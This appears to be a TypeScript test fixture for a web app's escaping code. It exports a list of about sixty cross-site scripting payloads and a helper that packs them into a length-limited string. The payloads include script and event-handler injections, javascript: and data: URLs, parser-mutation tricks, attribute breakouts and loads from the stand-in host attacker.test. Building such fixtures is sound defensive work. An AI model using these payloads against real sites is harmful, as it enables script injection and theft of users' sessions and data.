/**
 * Texts that become markup, a script or an address wherever somebody forgets to write them as text. Each calls `attack()`
 * or `alert()`, or asks for something of another host; none may ever do so.
 */
export const payloads: readonly string[] = [
  "<script>attack()</script>",
  "</script><script>attack()</script>",
  "<script src=//attacker.test/x.js></script>",
  "<ScRiPt>attack()</sCrIpT >",
  "<scr<script>ipt>attack()</scr</script>ipt>",
  "<script/x>attack()</script>",
  "<!--<script>--><script>attack()</script>",
  "<img src=x onerror=attack()>",
  "<img src=x onerror=alert(1)//",
  "<img/src='x'/onerror=attack()>",
  '<img src=//attacker.test/p.gif alt="',
  "<img src=x:x onerror\t=\tattack()>",
  "<<img src=x onerror=attack()>>",
  "<svg onload=attack()>",
  "<svg/onload=attack()//",
  "<svg><script>attack()</script></svg>",
  "<svg><a xlink:href=javascript:attack()><text>x</text></a>",
  "<svg><animate onbegin=attack() attributeName=x dur=1s>",
  "<svg><style><img src=x onerror=attack()></style>",
  "<svg></p><style><g title='</style><img src onerror=attack()>'>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=attack()>",
  "<math href=javascript:attack()>x</math>",
  "<iframe src=javascript:attack()></iframe>",
  "<iframe srcdoc='<script>parent.attack()</script>'></iframe>",
  "<object data=javascript:attack()></object>",
  "<embed src=data:text/html,<script>attack()</script>>",
  "<base href=//attacker.test/>",
  "<meta http-equiv=refresh content='0;url=javascript:attack()'>",
  "<link rel=stylesheet href=//attacker.test/x.css>",
  "<form action=javascript:attack()><button>x",
  "<button formaction=javascript:attack()>x</button>",
  "<a href=javascript:attack()>x</a>",
  "<a href='java\tscript:attack()'>x</a>",
  "<a href=&#106;avascript:attack()>x</a>",
  "<details open ontoggle=attack()>",
  "<input autofocus onfocus=attack()>",
  "<video><source onerror=attack()>",
  "<audio src=x onerror=attack()>",
  "<body onload=attack()>",
  "<marquee onstart=attack()>x</marquee>",
  "<div style=animation-name:x onanimationend=attack()>",
  "<template><img src=x onerror=attack()></template>",
  "<noscript><p title='</noscript><img src=x onerror=attack()>'>",
  "</textarea><img src=x onerror=attack()>",
  "</title><img src=x onerror=attack()>",
  "</style><img src=x onerror=attack()>",
  "]]><img src=x onerror=attack()>",
  '" onmouseover=attack() autofocus onfocus=attack() x="',
  "' onpointerenter=attack() autofocus onfocus=attack() x='",
  '"><img src=x onerror=attack()>',
  "`-attack()-`",
  "'-attack()-'\\\"-attack()-\"\\",
  "javascript:attack()",
  "JaVaScRiPt:attack()//https://attacker.test",
  "data:text/html,<script>attack()</script>",
  "[x](javascript:attack())",
  "![x](x'onerror=attack()//)",
  "&lt;img src=x onerror=attack()&gt;",
  "\u2028attack()\u2029{{constructor.constructor('attack()')()}}",
  "\\u003cimg src=x onerror=attack()\\u003e",
];

/** As many of the payloads as `length` characters hold, from one of them on. */
export function pack(from: number, length: number, most = 12): { text: string; held: number[] } {
  const held: number[] = [];
  let text = "";
  for (let step = 0; step < payloads.length && held.length < most; step++) {
    const at = (from + step) % payloads.length;
    const next = text === "" ? payloads[at]! : `${text} ${payloads[at]}`;
    if (next.length > length) continue;
    text = next;
    held.push(at);
  }
  return { text, held };
}
